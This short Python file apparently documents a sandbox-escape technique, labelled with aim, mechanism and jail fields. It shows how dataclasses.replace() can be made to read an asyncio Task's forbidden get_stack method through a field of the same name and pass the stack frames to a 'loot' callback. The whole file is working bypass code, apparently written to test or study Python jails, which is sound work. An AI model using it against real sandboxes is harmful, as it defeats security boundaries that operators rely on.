# aim: let dataclasses read a forbidden method of a task by the name of a field
# mechanism: replace() reads every field with the real getattr and hands it to the constructor
# language: builtins
# reason: the library reads names that the program chose
# jail: process
# plain: loot

import asyncio
import dataclasses


@dataclasses.dataclass(init=False, eq=False, repr=False, match_args=False)
class Mine(asyncio.Task):
    get_stack: object

    def __init__(self, *args, get_stack=None, **kwargs):
        if get_stack is not None:
            loot(get_stack())
            raise LookupError
        super().__init__(*args, **kwargs)


async def child():
    await asyncio.sleep(0)


async def main():
    task = Mine(child(), loop=asyncio.get_running_loop())
    await asyncio.sleep(0)
    try:
        dataclasses.replace(task)
    except LookupError:
        pass
    await task


asyncio.run(main())
